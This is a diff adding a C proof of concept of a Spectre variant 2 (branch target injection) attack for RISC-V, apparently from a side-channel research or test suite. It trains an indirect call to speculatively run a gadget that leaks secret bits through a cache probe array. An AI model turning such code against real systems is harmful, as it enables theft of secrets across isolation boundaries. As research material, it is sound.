@@ -0,0 +1,58 @@
+#include "../lib.c"
+
+#include "util_riscv.h"
+#include "cache.h"
+
+// Spectre-BTB (variant 2, branch target injection within one program): an indirect call is trained to jump to a gadget,
+// then its target is switched to a harmless function and evicted, so the call speculatively runs the gadget once more.
+
+#include "receiver.h"
+
+#ifndef TRAIN_TIMES
+#define TRAIN_TIMES 24 // Calls through btbDispatch() to the gadget before every attack.
+#endif
+
+// Declare a global variable that prevents the compiler from optimizing out btbGadget().
+uint8_t anchorVar = 0;
+
+/**
+ * The gadget: encodes guideArray[targetIdx] in probeArray.
+ * Only the LEAK_BITS bits of the secret selected by shift are encoded, see LEAK_SLICE in receiver.h.
+ */
+SENDER_FN void btbGadget(uint32_t targetIdx, uint32_t shift){
+	anchorVar &= *PROBE_LINE(LEAK_SLICE(guideArray[targetIdx], shift));
+}
+
+// The architectural target of the attack: does not touch guideArray at all.
+SENDER_FN void btbBenign(uint32_t targetIdx, uint32_t shift){
+}
+
+void (*btbTarget)(uint32_t, uint32_t) = btbBenign;
+
+// The one indirect call that is trained and attacked, so that both go through the same BTB entry.
+SENDER_FN void btbDispatch(uint32_t targetIdx, uint32_t shift){
+	btbTarget(targetIdx, shift);
+}
+
+/**
+ * Train the BTB entry of btbDispatch() with the gadget and the in-bounds index 0, whose probe line is the architectural one anyway,
+ * then point btbTarget at btbBenign() and evict it, so that the next call resolves its target only after a miss.
+ */
+void btbTrain(uint32_t shift){
+	btbTarget = btbGadget;
+	for (uint32_t i = 0; i < TRAIN_TIMES; i++){
+		btbDispatch(0, shift);
+	}
+	btbTarget = btbBenign;
+	flushCache((uint32_t)&btbTarget, sizeof(btbTarget));
+}
+
+#define ATTACK_NAME "btb"
+#define SENDER_PREPARE(targetIdx, victimIdx, shift) btbTrain((shift))
+#define SENDER_TRANSMIT(targetIdx, victimIdx, shift) btbDispatch((targetIdx), (shift))
+
+#include "leak.h"
+
+void main(){
+	leakRun();
+}